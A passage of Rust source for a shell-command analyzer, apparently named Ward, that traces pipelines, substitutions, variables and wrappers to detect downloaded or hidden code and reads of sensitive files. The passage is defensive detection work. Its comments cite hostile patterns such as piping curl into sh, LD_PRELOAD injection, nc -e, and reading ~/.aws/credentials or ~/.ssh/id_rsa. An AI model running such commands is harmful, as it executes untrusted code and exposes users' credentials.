                                    self.compound_input(&mut tokens, opener, &mut stdin, wrappers, depth);
                                }
                                if w.text != "[[" {
                                    continue;
                                }
                            }
                            "for" | "select" => {
                                self.conditional += 1;
                                self.compound_input(
                                    &mut tokens,
                                    Closer::ForBody,
                                    &mut stdin,
                                    wrappers,
                                    depth,
                                );
                                skip_to_separator = true;
                                loop_header = Some(LoopHeader::default());
                                continue;
                            }
                            "case" => {
                                self.conditional += 1;
                                self.compound_input(&mut tokens, Closer::Esac, &mut stdin, wrappers, depth);
                                case_depth += 1;
                                case_header = true;
                                continue;
                            }
                            "function" => {
                                // `function name { …; }` / `function name() …`: skip the name.
                                if let Some(Token::Word(name)) = tokens.front() {
                                    self.functions.insert(name.text.clone());
                                    tokens.pop_front();
                                }
                                self.positional_unknown();
                                if matches!(tokens.front(), Some(Token::Op(Op::LParen))) {
                                    tokens.pop_front();
                                    if matches!(tokens.front(), Some(Token::Op(Op::RParen))) {
                                        tokens.pop_front();
                                    }
                                }
                                continue;
                            }
                            _ => {}
                        }
                    }
                    current.words.push(w);
                }
                Token::Redir(r) => {
                    if !skip_to_separator && !case_header {
                        current.redirs.push(r);
                    }
                }
                Token::Op(op) => {
                    if case_header {
                        continue;
                    }
                    if op == Op::LParen && current.words.len() == 1 && current.redirs.is_empty() {
                        // `name() { …; }`: a function definition, not a call of `name`.
                        if matches!(tokens.front(), Some(Token::Op(Op::RParen))) {
                            self.functions.insert(current.words[0].text.clone());
                            tokens.pop_front();
                            current = Simple::default();
                            self.positional_unknown();
                            continue;
                        }
                    }
                    let simple = std::mem::take(&mut current);
                    let out = if skip_to_separator || (simple.words.is_empty() && simple.redirs.is_empty()) {
                        Stream::None
                    } else {
                        let stdin_now = std::mem::replace(&mut stdin, Stream::None);
                        // A pipeline stage or a background job runs in a subshell.
                        let outer = std::mem::replace(
                            &mut self.in_pipeline,
                            piped || matches!(op, Op::Pipe | Op::Amp),
                        );
                        let out = self.simple(simple, stdin_now, wrappers, depth);
                        self.in_pipeline = outer;
                        out
                    };
                    piped = op == Op::Pipe;
                    self.after_and_or = matches!(op, Op::And | Op::Or);
                    if !matches!(op, Op::Pipe | Op::LParen | Op::RParen) {
                        skip_to_separator = false;
                        if let Some(header) = loop_header.take() {
                            self.loop_variable(header);
                        }
                    }
                    match op {
                        Op::Pipe => {
                            // After `( … )` the group's output feeds the pipe.
                            stdin = if out == Stream::None {
                                std::mem::replace(&mut last_out, Stream::None)
                            } else {
                                out
                            };
                            continue;
                        }
                        Op::LParen => {
                            paren_depth += 1;
                            group_marks.push(printed.len());
                            self.enter_subshell();
                            // `echo x | ( sh )`: the group's first command keeps the pipe,
                            // unless the group's own redirection replaces it.
                            self.compound_input(&mut tokens, Closer::Paren, &mut stdin, wrappers, depth);
                            last_out = Stream::None;
                            continue;
                        }
                        Op::RParen => {
                            match paren_depth.checked_sub(1) {
                                Some(d) => {
                                    paren_depth = d;
                                    self.leave_subshell();
                                }
                                None => self.error("unbalanced `)`"),
                            }
                            if out != Stream::None {
                                printed.push(out);
                            }
                            if let Some(mark) = group_marks.pop() {
                                last_out = combined(&printed[mark.min(printed.len())..]);
                            }
                            stdin = Stream::None;
                            // Keep `last_out` so `( curl … ) | sh` sees the download.
                            continue;
                        }
                        Op::CaseEnd if case_depth > 0 => case_pattern = true,
                        _ => {}
                    }
                    if out != Stream::None {
                        printed.push(out.clone());
                    }
                    last_out = out;
                    stdin = fed.clone();
                }
            }
        }
        if paren_depth > 0 {
            self.error("unbalanced `(`");
            for _ in 0..paren_depth {
                self.leave_subshell();
            }
        }
        if !skip_to_separator && (!current.words.is_empty() || !current.redirs.is_empty()) {
            let stdin_now = std::mem::replace(&mut stdin, Stream::None);
            let outer = std::mem::replace(&mut self.in_pipeline, piped);
            let out = self.simple(current, stdin_now, wrappers, depth);
            self.in_pipeline = outer;
            if out != Stream::None {
                printed.push(out);
            }
        }
        combined(&printed)
    }

    /// One simple command: redirections, substitutions, assignments, then the command itself.
    fn simple(&mut self, simple: Simple, mut stdin: Stream, wrappers: &[String], depth: usize) -> Stream {
        let Simple { words, redirs } = simple;
        let words = brace_expanded(words);

        for r in &redirs {
            let outputs = self.substitutions(&r.target, wrappers, depth);
            match r.kind {
                RedirKind::Out | RedirKind::Append => self.add_path(&r.target.text, Access::Write),
                RedirKind::InOut => {
                    self.add_path(&r.target.text, Access::Read);
                    self.add_path(&r.target.text, Access::Write);
                    if r.feeds_stdin() {
                        stdin = Stream::Opaque;
                    }
                }
                RedirKind::In => {
                    self.add_path(&r.target.text, Access::Read);
                    if r.feeds_stdin() {
                        stdin = self.file_input(&r.target, outputs);
                    }
                }
                // `<&3`: stdin is whatever descriptor 3 holds.
                RedirKind::Dup if r.feeds_stdin() => stdin = Stream::Opaque,
                RedirKind::Dup => {}
                RedirKind::HereDoc | RedirKind::HereString if r.feeds_stdin() => {
                    let text = r.body.clone().unwrap_or_else(|| r.target.text.clone());
                    self.mention(&text);
                    stdin = here_input(r, &outputs);
                }
                RedirKind::HereDoc | RedirKind::HereString => {}
            }
        }

        // Substitutions run before the command; remember which words carry downloaded content
        // (`bash -c "$(curl …)"`, `sh <(curl …)`) and what `$(echo rm)` would print.
        let mut sub_outputs: Vec<Option<Stream>> = Vec::with_capacity(words.len());
        let mut downloaded_arg = false;
        for w in &words {
            let out = self.substitutions(w, wrappers, depth);
            if out.contains(&Stream::Download) {
                downloaded_arg = true;
            }
            sub_outputs.push(if out.len() == 1 { out.into_iter().next() } else { None });
        }

        let mut start = 0;
        while let Some(w) = words.get(start) {
            if w.assignment().is_none() {
                break;
            }
            start += 1;
        }
        if start == words.len() {
            // Only assignments: remember literal values for `$X` later in the line.
            for (w, out) in words.iter().zip(&sub_outputs) {
                if let Some(subscript) = assignment_subscript(w) {
                    self.arithmetic(subscript);
                }
                if let Some(assignment) = w.assignment_detail() {
                    self.mention(assignment.value);
                    let (name, value) = (assignment.name, assignment.value);
                    if tables::PROMPT_VARIABLES.contains(&name) {
                        self.code_in_variable(name, value, w.dynamic, wrappers, depth);
                    }
                    if let Some(elements) = value.strip_prefix('(').and_then(|v| v.strip_suffix(')')) {
                        // `x=(a b)`: `${x[0]}`, `${x[@]}` and `$x` take one of the elements.
                        if w.dynamic {
                            self.forget(name);
                        } else {
                            let words: Vec<String> = elements
                                .split_whitespace()
                                .map(|e| e.trim_matches(|c| c == '"' || c == '\'').to_owned())
                                .collect();
                            self.bind_keeping(name.to_owned(), words, assignment.append);
                        }
                        continue;
                    }
                    let literal = if !w.dynamic {
                        Some(value.to_owned())
                    } else if let Some(Stream::Literal(s)) = out {
                        Some(s.trim().to_owned())
                    } else if w.subs.is_empty() {
                        // `F=$HOME/.ssh/id_rsa`, `W=$D/spool`: known when its variables are.
                        self.expand_variables(value)
                    } else {
                        None
                    };
                    // `X+=y` appends to what X holds (IFS holds blanks until assigned).
                    let literal = match (assignment.append, literal) {
                        (true, Some(v)) => match (self.vars.get(name), self.loop_vars.get(name)) {
                            (Some(old), _) => Some(format!("{old}{v}")),
                            (None, Some(_)) => None,
                            (None, None) if name == "IFS" && !self.unknown_vars.contains(name) => {
                                Some(format!(" \t\n{v}"))
                            }
                            (None, None) if self.unknown_vars.contains(name) => None,
                            (None, None) => Some(v),
                        },
                        (_, literal) => literal,
                    };
                    if self.integer_vars.contains(name) {
                        // `declare -i n; n=VALUE`: VALUE is evaluated as arithmetic.
                        let text_output = w.subs.iter().any(|s| !prints_a_number(&s.script));
                        if text_output || self.arithmetic_unknown(value, 0) {
                            self.out.dynamic = true;
                        }
                    }
                    match literal {
                        // `a[1]=x`: one element; `$a` may still be the old first one.
                        Some(v) if assignment.element => self.bind_keeping(name.to_owned(), vec![v], true),
                        Some(v) => self.bind(name.to_owned(), vec![v]),
                        None => {
                            let number = is_number_value(value);
                            let was_text = self.text_vars.contains(name);
                            self.forget(name);
                            if number && !(was_text && self.scoped()) {
                                self.text_vars.remove(name);
                            }
                        }
                    }
                }
            }
            self.forget_written_files(&redirs);
            return Stream::None;
        }

        // `GIT_SSH_COMMAND='…' git fetch`, `LD_PRELOAD=./x.so ls`: code the command runs.
        for w in &words[..start] {
            if let Some((name, value)) = w.assignment() {
                self.code_in_variable(name, value, w.dynamic, wrappers, depth);
            }
        }
        // `IFS=: read -r a b`: the command splits with the IFS given to it.
        // None: not given; Some(None): given a value only known at run time.
        let ifs_given = words[..start].iter().find_map(|w| match w.assignment() {
            Some(("IFS", value)) => Some((!w.dynamic).then(|| value.to_owned())),
            _ => None,
        });
        // `CDPATH=~ cd .local`: `cd` looks its operand up in CDPATH's directories first.
        self.prefix_names =
            words[..start].iter().filter_map(|w| w.assignment().map(|(name, _)| name.to_owned())).collect();
        // `a[i]=x`: an indexed array's subscript is arithmetic.
        for w in &words[..start] {
            if let Some(subscript) = assignment_subscript(w) {
                self.arithmetic(subscript);
            }
        }
        // `let EXPR…` and `[[ A -eq B ]]` evaluate their operands as arithmetic.
        let command_words = &words[start..];
        match command_words.first().filter(|w| w.first_quoted.is_none()).map(|w| w.text.as_str()) {
            Some("let") => {
                for w in &command_words[1..] {
                    self.arithmetic(&w.text);
                }
            }
            Some("[[") => {
                for (i, w) in command_words.iter().enumerate() {
                    if matches!(w.text.as_str(), "-eq" | "-ne" | "-lt" | "-le" | "-gt" | "-ge") {
                        for operand in [i.checked_sub(1), Some(i + 1)].into_iter().flatten() {
                            if let Some(operand) = command_words.get(operand) {
                                self.arithmetic(&operand.text);
                            }
                        }
                    }
                }
            }
            _ => {}
        }
        let mut argv: Vec<String> = Vec::with_capacity(words.len() - start);
        let mut word_iter = words.iter().zip(sub_outputs.iter()).skip(start);
        if let Some((first, sub_out)) = word_iter.next() {
            match self.resolve_program_word(first, sub_out.as_ref()) {
                Some(parts) => {
                    // `alias t=terraform` earlier in the line: `t apply` runs terraform.
                    match parts.first().and_then(|p| self.aliases.get(p)) {
                        Some(value) if first.first_quoted.is_none() => {
                            argv.extend(value.split_whitespace().map(str::to_owned));
                            argv.extend(parts.into_iter().skip(1));
                        }
                        _ => argv.extend(parts),
                    }
                }
                None => {
                    self.out.dynamic = true;
                    argv.push(first.text.clone());
                }
            }
        }
        // `declare n=$(…)`, `local x="$y"`: bash does not split a declaration builtin's
        // assignment arguments, so each stays one word.
        let declaration = argv
            .first()
            .is_some_and(|p| matches!(p.as_str(), "declare" | "typeset" | "local" | "export" | "readonly"));
        for (w, sub_out) in word_iter {
            let at = argv.len();
            self.argument_words(w, sub_out.as_ref(), &mut argv);
            if declaration && w.assignment().is_some() && argv.len() == at + 1 && splits(&argv[at]) {
                argv[at] = format!("{UNKNOWN}{ONE_WORD}{}", plain(&argv[at]));
            }
        }
        let ifs_before = ifs_given.map(|ifs| {
            let before = (self.vars.get("IFS").cloned(), self.unknown_vars.contains("IFS"));
            match ifs {
                Some(ifs) => {
                    self.vars.insert("IFS".to_owned(), ifs);
                    self.unknown_vars.remove("IFS");
                }
                None => {
                    self.vars.remove("IFS");
                    self.unknown_vars.insert("IFS".to_owned());
                }
            }
            before
        });
        // Only a line that wrote files needs the operands kept (below).
        let operands_written_to = if self.written.is_empty() {
            None
        } else {
            argv.first()
                .map(|p| program_name(plain(p)))
                .filter(|p| !READS_OPERANDS.contains(&p.as_str()))
                .map(|_| argv[1..].to_vec())
        };
        if names_evaluated(&argv) {
            self.out.dynamic = true;
        }
        let out = self.exec(argv, wrappers.to_vec(), stdin, downloaded_arg, depth);
        if let Some((value, unknown)) = ifs_before {
            match value {
                Some(value) => self.vars.insert("IFS".to_owned(), value),
                None => self.vars.remove("IFS"),
            };
            if unknown {
                self.unknown_vars.insert("IFS".to_owned());
            } else {
                self.unknown_vars.remove("IFS");
            }
        }
        self.forget_written_files(&redirs);
        // A file named as an operand may be written by a program Ward has no table for
        // (`uniq in out`); only programs known to read their operands leave them as they were.
        for word in operands_written_to.iter().flatten() {
            if let Some(key) = self.written_key(word) {
                if let Some(content) = self.written.get_mut(&key) {
                    *content = None;
                }
            }
        }
        // Remember what this command wrote into files, for a later `sh FILE`/`python FILE`.
        let mut redirected = false;
        for r in &redirs {
            let has_target = !r.target.text.is_empty();
            if matches!(r.kind, RedirKind::Out | RedirKind::Append) && has_target {
                if let Some(key) = self.written_key(&r.target.text) {
                    let content = match &out {
                        Stream::Literal(t) => Some(t.clone()),
                        _ => None,
                    };
                    let merged = match (r.kind, self.written.get(&key)) {
                        (RedirKind::Append, Some(Some(before))) => content.map(|c| format!("{before}\n{c}")),
                        (RedirKind::Append, Some(None)) => None,
                        _ => content,
                    };
                    self.written.insert(key, merged);
                    redirected = true;
                }
            }
        }
        if redirected {
            Stream::None
        } else {
            out
        }
    }

    /// Analyze the substitutions inside a word; returns what each would print.
    fn substitutions(&mut self, w: &Word, wrappers: &[String], depth: usize) -> Vec<Stream> {
        let mut outs = Vec::new();
        for sub in &w.subs {
            let label = if sub.process { "<(…)" } else { "$(…)" };
            outs.push(self.subshell_script(&sub.script, label, wrappers, depth));
        }
        // Scripts that run while the word is expanded or evaluated, their output not its value.
        for script in &w.runs {
            let _ = self.subshell_script(script, "$(…)", wrappers, depth);
        }
        for expr in &w.arithmetic {
            self.arithmetic(expr);
        }
        outs
    }

    /// A shell command given to a program as a word (`git rebase --exec CMD`, `nc -e CMD`,
    /// `npm pkg set scripts.x=CMD`), run under `label`: analyzed, or hidden code when the word
    /// is only known at run time.
    fn given_command(&mut self, word: &str, label: String, wrappers: &[String], depth: usize) {
        if is_unknown(word) {
            self.out.dynamic = true;
        } else {
            let mut inner = wrappers.to_vec();
            inner.push(label);
            let _ = self.script(plain(word), &inner, depth + 1);
        }
    }

    /// `script` run in a subshell of this line (a substitution), under `label`.
    fn subshell_script(&mut self, script: &str, label: &str, wrappers: &[String], depth: usize) -> Stream {
        let mut inner = wrappers.to_vec();
        inner.push(label.to_owned());
        self.enter_subshell();
        let outer = std::mem::replace(&mut self.in_pipeline, false);
        let out = self.script(script, &inner, depth + 1);
        self.in_pipeline = outer;
        self.leave_subshell();
        out
    }

    /// One word of a `for`/`select` header: the name, `in`, or one of the list's words (brace
    /// expanded, its variables known, or the list is unknown).
    fn loop_word(&self, header: &mut LoopHeader, w: Word, outputs: &[Stream]) {
        if header.name.is_none() {
            header.name = Some(w.text);
            return;
        }
        if !header.listing {
            header.listing = w.text == "in" && w.first_quoted.is_none();
            return;
        }
        let Some(mut words) = header.words.take() else { return };
        // `for f in $(find ~/.aws)`, `for f in $(echo a b)`: the substitution's words.
        if w.is_whole_substitution() {
            match outputs {
                [Stream::Literal(text)] => words.extend(text.split_whitespace().map(str::to_owned)),
                [Stream::Names(patterns)] => words.extend(patterns.iter().cloned()),
                _ => {
                    header.text = !w.subs.iter().all(|s| prints_a_number(&s.script));
                    return;
                }
            }
            header.words = Some(words);
            return;
        }
        // `for i in "${!a[@]}"`: an indexed array's indices are numbers (an associative
        // array's keys are not: any `declare -A` in the line makes them text).
        let indices = w.text.starts_with("${!") && (w.text.ends_with("[@]}") || w.text.ends_with("[*]}"));
        if indices && !self.associative {
            header.words = None;
            return;
        }
        // `for f in ~/.aws/*`: a glob stays a glob; the variable takes one of the paths it
        // names, which the rules match as they match the glob itself.
        for w in brace_expanded(vec![w]) {
            match (w.dynamic, w.subs.is_empty()) {
                (false, _) => words.push(w.text),
                (true, true) => match self.expand_variables(&w.text) {
                    Some(value) if w.first_quoted.is_none() => {
                        words.extend(value.split_whitespace().map(str::to_owned))
                    }
                    Some(value) => words.push(value),
                    None => {
                        header.text = true;
                        return;
                    }
                },
                (true, false) => {
                    header.text = true;
                    return;
                }
            }
        }
        header.words = Some(words);
    }

    /// The header ended: its variable takes its words in the body, or is unknown there.
    fn loop_variable(&mut self, header: LoopHeader) {
        for word in header.words.iter().flatten() {
            self.mention(word);
        }
        let Some(name) = header.name else { return };
        self.vars.remove(&name);
        if header.text {
            self.text_vars.insert(name.clone());
        } else {
            self.text_vars.remove(&name);
        }
        match header.words.filter(|words| header.listing && !words.is_empty()) {
            Some(words) => {
                self.loop_vars.insert(name, words);
            }
            None => {
                self.loop_vars.remove(&name);
            }
        }
    }

    /// `text` with a loop variable in it, once per word the variable takes (`cat "$f"` in
    /// `for f in a b` reads `a` and `b`); None when it names none or another part is unknown.
    fn loop_expansions(&self, text: &str) -> Option<Vec<String>> {
        let (name, words) = self.loop_vars.iter().find(|(name, _)| {
            text.contains(&format!("${name}"))
                || text.contains(&format!("${{{name}}}"))
                || text.contains(&format!("${{{name}["))
        })?;
        words.iter().map(|word| self.expand_variables_with(text, Some((name, word)))).collect()
    }

    /// The words an argument stands for: its text when literal; the value of variables
    /// assigned literally earlier in the line (split into words when unquoted) and the output
    /// of a substitution known statically (`$(echo apply)`); otherwise one word marked
    /// [`UNKNOWN`].
    fn argument_words(&self, w: &Word, sub_out: Option<&Stream>, argv: &mut Vec<String>) {
        if !w.dynamic {
            argv.push(w.text.clone());
            return;
        }
        let text = w.text.as_str();
        if w.subs.is_empty() {
            if let Some(words) = self.loop_expansions(text) {
                argv.extend(words);
                return;
            }
            if let Some(value) = self.expand_variables(text) {
                if w.first_quoted.is_none() || text.contains("$@") || text.contains("${@}") {
                    argv.extend(value.split_whitespace().map(str::to_owned));
                    // `IFS=:; x=a:~/.aws/credentials; cat $x` splits at the IFS too.
                    if let Some(ifs) =
                        self.vars.get("IFS").filter(|ifs| ifs.chars().any(|c| !c.is_whitespace()))
                    {
                        argv.extend(
                            value
                                .split(|c: char| ifs.contains(c))
                                .filter(|part| !part.trim().is_empty())
                                .map(str::to_owned),
                        );
                    }
                } else {
                    argv.push(value);
                }
                return;
            }
        } else if w.subs.len() == 1 && (text.starts_with("$(") || text.starts_with('`')) {
            let whole = w.is_whole_substitution();
            match sub_out {
                // `"$(…)"` is one word, its trailing newlines dropped: `sh -c "$(echo … |
                // base64 -d)"` runs the whole decoded line, not its first word.
                Some(Stream::Literal(s)) if whole && w.first_quoted == Some(0) => {
                    argv.push(s.trim_end_matches('\n').to_owned());
                    return;
                }
                Some(Stream::Literal(s)) if whole => {
                    argv.extend(s.split_whitespace().map(str::to_owned));
                    return;
                }
                // `cat $(find ~/.aws)`: one of the found files per word.
                Some(Stream::Names(patterns)) if whole => {
                    argv.extend(patterns.iter().cloned());
                    return;
                }
                _ => {}
            }
        }
        let unquoted = &text[..w.first_quoted.unwrap_or(text.len()).min(text.len())];
        if unquoted.contains('$') || unquoted.contains('`') {
            argv.push(format!("{UNKNOWN}{text}"));
        } else {
            argv.push(format!("{UNKNOWN}{ONE_WORD}{text}"));
        }
    }

    /// The words a command-position word stands for, if they can be known statically.
    fn resolve_program_word(&self, w: &Word, sub_out: Option<&Stream>) -> Option<Vec<String>> {
        if !w.dynamic {
            return Some(vec![w.text.clone()]);
        }
        let text = w.text.as_str();
        if w.subs.is_empty() {
            // `$X`, `${X}`, `$a$b`: known when every variable was assigned literally earlier.
            if let Some(value) = self.expand_variables(text) {
                // Unquoted, the value is split at the IFS too (`IFS=,; x=rm,f; $x`).
                let ifs = self.vars.get("IFS").filter(|_| w.first_quoted.is_none());
                let parts: Vec<String> = value
                    .split(|c: char| c.is_whitespace() || ifs.is_some_and(|ifs| ifs.contains(c)))
                    .filter(|p| !p.is_empty())
                    .map(str::to_owned)
                    .collect();
                return if parts.is_empty() { None } else { Some(parts) };
            }
            // `$VIRTUAL_ENV/bin/python`: the directory is unknown, the program is not.
            let basename = text.rsplit('/').next().unwrap_or_default();
            if text.starts_with('$') && text.contains('/') && !basename.is_empty() && !basename.contains('$')
            {
                return Some(vec![w.text.clone()]);
            }
        }
        if w.subs.len() == 1 && (text.starts_with("$(") || text.starts_with('`')) {
            if let Some(Stream::Literal(s)) = sub_out {
                let parts: Vec<String> = s.split_whitespace().map(str::to_owned).collect();
                if !parts.is_empty() {
                    return Some(parts);
                }
            }
        }
        None
    }

    /// Expand `$NAME` / `${NAME}` from literal assignments; `None` if anything is unknown.
    fn expand_variables(&self, text: &str) -> Option<String> {
        self.expand_variables_with(text, None)
    }

    /// [`Analyzer::expand_variables`], with `name` taking `value` (a loop variable's word).
    fn expand_variables_with(&self, text: &str, bound: Option<(&str, &str)>) -> Option<String> {
        let mut out = String::new();
        let mut rest = text;
        while let Some(at) = rest.find('$') {
            out.push_str(&rest[..at]);
            let after = &rest[at + 1..];
            let (name, tail) = if let Some(braced) = after.strip_prefix('{') {
                let end = braced.find('}')?;
                // `${parts[0]}`, `${parts[@]}`: an array bound by `read -a` (any element).
                let name = match braced[..end].split_once('[') {
                    Some((array, subscript))
                        if subscript.ends_with(']')
                            && !subscript[..subscript.len() - 1].contains(['[', ']']) =>
                    {
                        array
                    }
                    _ => &braced[..end],
                };
                (name, &braced[end + 1..])
            } else {
                let end =
                    after.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).unwrap_or(after.len());
                (&after[..end], &after[end..])
            };
            let (name, tail) = if name.is_empty() {
                // `$@`, `$*`, `$#`: one special character.
                match after.chars().next() {
                    Some(c @ ('@' | '*' | '#')) => (&after[..c.len_utf8()], &after[c.len_utf8()..]),
                    _ => return None,
                }
            } else {
                (name, tail)
            };
            let valid = name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                || matches!(name, "@" | "*" | "#");
            if !valid {
                return None;
            }
            let own = bound.filter(|(bound, _)| *bound == name).map(|(_, value)| value);
            match own.or_else(|| self.vars.get(name).or_else(|| self.env.get(name)).map(String::as_str)) {
                Some(v) => out.push_str(v),
                // `~` is how paths name the home; `normalize_path` reads `$HOME` the same way.
                None if name == "HOME" => out.push('~'),
                None => return None,
            }
            rest = tail;
        }
        out.push_str(rest);
        Some(out)
    }

    fn record(&mut self, argv: &[String], wrappers: &[String]) -> usize {
        for word in argv.iter().skip(1).filter(|a| !is_unknown(a)) {
            self.mention(word);
        }
        let program = program_name(argv.first().map(|a| plain(a)).unwrap_or_default());
        let unknown_args: Vec<usize> =
            argv.iter().enumerate().filter(|(_, a)| is_unknown(a)).map(|(i, _)| i).collect();
        let unknown_splits: Vec<usize> =
            argv.iter().enumerate().filter(|(_, a)| splits(a)).map(|(i, _)| i).collect();
        self.push_command(ShellCommand {
            argv: argv.iter().map(|a| plain(a).to_owned()).collect(),
            program,
            wrappers: wrappers.to_vec(),
            runs_downloaded_code: false,
            inline_code: false,
            unknown_args,
            unknown_splits,
        });
        self.out.commands.len().saturating_sub(1)
    }

    /// A sed script's own effects (`tables::sed_script_effects`): files its `w` commands
    /// write, commands its `e` command runs (analyzed as shell), and `s///e`, which runs text
    /// only known at run time.
    fn sed_script(&mut self, args: &[String], stdin: &Stream, wrappers: &[String], depth: usize) {
        let parsed = tables::parse_options(args, tables::SED_OPTS, false);
        let mut scripts: Vec<String> = parsed.values(&["-e", "--expression"]).map(str::to_owned).collect();
        if scripts.is_empty() && !parsed.has(&["-f", "--file"]) {
            scripts.extend(parsed.operands.first().cloned());
        }
        // `sed -f /dev/stdin`, `sed -f s.sed` written earlier in the line: a script file whose
        // text is known; one read from another program's output is only known at run time.
        for file in parsed.values(&["-f", "--file"]).map(plain) {
            if matches!(file, "/dev/stdin" | "-" | "/proc/self/fd/0") {
                match stdin {
                    Stream::Literal(text) | Stream::Unexpanded(text) => scripts.push(text.clone()),
                    Stream::None => {}
                    _ => self.out.dynamic = true,
                }
            } else if code_from_descriptor(file) {
                self.out.dynamic = true;
            } else {
                match self.written_script(file) {
                    Some(Some(text)) => scripts.push(text),
                    Some(None) => self.out.dynamic = true,
                    None => {}
                }
            }
        }
        for script in scripts {
            if is_unknown(&script) {
                continue;
            }
            let effects = tables::sed_script_effects(plain(&script));
            for file in effects.reads {
                self.add_path(&file, Access::Read);
            }
            for file in effects.writes {
                self.add_path(&file, Access::Write);
            }
            for command in effects.runs {
                match command {
                    Some(command) => {
                        let mut inner = wrappers.to_vec();
                        inner.push("sed e".to_owned());
                        let _ = self.script(&command, &inner, depth + 1);
                    }
                    None => self.out.dynamic = true,
                }
            }
        }
    }

    fn mark(&mut self, index: usize, downloaded: bool, inline: bool) {
        if let Some(c) = self.out.commands.get_mut(index) {
            c.runs_downloaded_code |= downloaded;
            c.inline_code |= inline;
        }
    }

    /// Unwrap wrappers and record the effective command; returns what it prints.
    fn exec(
        &mut self,
        argv: Vec<String>,
        mut wrappers: Vec<String>,
        stdin: Stream,
        downloaded_arg: bool,
        depth: usize,
    ) -> Stream {
        let Some(first) = argv.first() else { return Stream::None };
        if depth > MAX_DEPTH {
            self.error("commands nested too deeply to analyze");
            self.out.dynamic = true;
            return Stream::Opaque;
        }
        let program = program_name(first);
        // `rm --rec`, `tar --remove-f`: long options by their full names.
        let argv = abbreviations::expanded(&program, &argv).unwrap_or(argv);
        let first = &argv[0];
        let args = &argv[1..];
        // `git rebase --exec CMD`, `ssh -o ProxyCommand=CMD`, `tar --to-command=CMD`, …
        for code in code_options::code_in_options(&program, args) {
            match code {
                Some(code) => self.given_command(&code, format!("{program} option"), &wrappers, depth),
                None => self.out.dynamic = true,
            }
        }

        if let Some(spec) = tables::wrapper(&program) {
            if let Some(inner) = tables::wrapped_command(spec, args) {
                if spec.name == "env" {
                    for a in argv.get(1..inner.start).unwrap_or_default() {
                        if let Some((name, value)) = plain(a).split_once('=') {
                            self.code_in_variable(name, value, is_unknown(a), &wrappers, depth);
                        }
                    }
                }
                // Options of the wrapper that name files (`xargs -a FILE`, `flock FILE`).
                for (path, access) in &inner.paths {
                    self.add_path(path, *access);
                }
                if let Some(split) = inner.split_string {
                    wrappers.push(program.clone());
                    let parts: Vec<String> = split.split_whitespace().map(str::to_owned).collect();
                    return self.exec(parts, wrappers, stdin, downloaded_arg, depth + 1);
                }
                if let Some(script) = inner.script {
                    wrappers.push(program.clone());
                    return self.script(&script, &wrappers, depth + 1);
                }
                if inner.start < argv.len() {
                    // Under proxychains/torsocks, whatever the command connects to, it reaches
                    // through a proxy the line does not show.
                    if tables::is_proxy_wrapper(&program) {
                        self.add_unknown_host();
                    }
                    wrappers.push(inner.label.unwrap_or_else(|| program.clone()));
                    let mut rest = argv[inner.start..].to_vec();
                    if spec.name == "xargs" {
                        // `xargs cmd` feeds cmd arguments from its input: stdin, or the file
                        // `-a FILE` names.
                        let options = xargs_options(&argv[1..inner.start]);
                        let input = match &options.file {
                            Some(file) => self.written_content(file),
                            None => stdin,
                        };
                        xargs_arguments(&options, &mut rest, &input);
                        return self.exec(rest, wrappers, Stream::Opaque, downloaded_arg, depth + 1);
                    }
                    return self.exec(rest, wrappers, stdin, downloaded_arg, depth + 1);
                }
            }
            // A tool that runs commands only after a verb (`npm exec`, `uv run`) is an
            // ordinary program otherwise (`npm install --registry=…`, `uv pip install`).
            if !matches!(spec.kind, tables::WrapperKind::Verb(_)) {
                self.record(&argv, &wrappers);
                return Stream::Opaque;
            }
        }

        if tables::is_shell(&program) {
            return self.shell(&program, argv.clone(), wrappers, stdin, downloaded_arg, depth);
        }
        if let Some(flags) = tables::interpreter(&program) {
            return self.interpreter(&program, flags, &argv, wrappers, stdin, downloaded_arg, depth);
        }

        if let Some(code) = tools::tool_code(&program, args) {
            self.tool(&program, code, &wrappers, &stdin, depth);
        }

        match program.as_str() {
            "shopt" if args.iter().any(|a| a == "-s") && args.iter().any(|a| a == "cdable_vars") => {
                self.cdable_vars = true;
            }
            "cd" | "pushd" => {
                self.record(&argv, &wrappers);
                self.change_directory(args);
                return Stream::None;
            }
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                // `export F=~/.aws/credentials`: an assignment like `F=…` on its own.
                self.record(&argv, &wrappers);
                // `declare -n r=f`: assigning `r` assigns `f`; Ward does not follow names.
                let nameref = program != "export"
                    && args.iter().any(|a| {
                        plain(a).starts_with('-') && !plain(a).starts_with("--") && plain(a).contains('n')
                    });
                if nameref {
                    self.out.dynamic = true;
                }
                // `local`/`declare` in a function end with it: the old value may be back after.
                let scoped = program != "export" && program != "readonly";
                let integer = program != "export"
                    && args.iter().any(|a| {
                        plain(a).starts_with('-') && !plain(a).starts_with("--") && plain(a).contains('i')
                    });
                if args.iter().any(|a| {
                    plain(a).starts_with('-') && !plain(a).starts_with("--") && plain(a).contains('A')
                }) {
                    self.associative = true;
                }
                for a in args.iter().filter(|a| !plain(a).starts_with('-')) {
                    if integer {
                        let name = plain(a).split_once('=').map_or(plain(a), |(name, _)| name);
                        self.integer_vars.insert(name.to_owned());
                        if let Some((_, value)) = plain(a).split_once('=') {
                            let number = is_number_value(value);
                            if !number && (is_unknown(a) || self.arithmetic_unknown(value, 0)) {
                                self.out.dynamic = true;
                            }
                        }
                    }
                    let Some((name, value)) = plain(a).split_once('=') else { continue };
                    let valid =
                        !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
                    if !valid {
                        continue;
                    }
                    self.code_in_variable(name, value, is_unknown(a), &wrappers, depth);
                    if is_unknown(a) {
                        self.forget(name);
                    } else {
                        let keeps_old = scoped || self.scoped();
                        self.bind_keeping(name.to_owned(), vec![value.to_owned()], keeps_old);
                    }
                }
                return Stream::None;
            }
            "unset" => {
                // An unset variable expands to nothing (not to the hook's value of it).
                self.record(&argv, &wrappers);
                // `unset -f NAME` removes a function, not a variable.
                let functions_only = args.iter().any(|a| plain(a).starts_with('-') && plain(a).contains('f'));
                for a in
                    args.iter().filter(|a| !plain(a).starts_with('-') && !is_unknown(a) && !functions_only)
                {
                    if plain(a) == "IFS" {
                        // Without IFS, read splits at blanks again.
                        self.vars.remove("IFS");
                        self.unknown_vars.remove("IFS");
                    } else {
                        self.bind(plain(a).to_owned(), vec![String::new()]);
                    }
                }
                return Stream::None;
            }
            "hash" => {
                // `hash -p /bin/rm ls`: `ls` runs /bin/rm from now on, as an alias would.
                self.record(&argv, &wrappers);
                let mut it = args.iter().map(|a| plain(a));
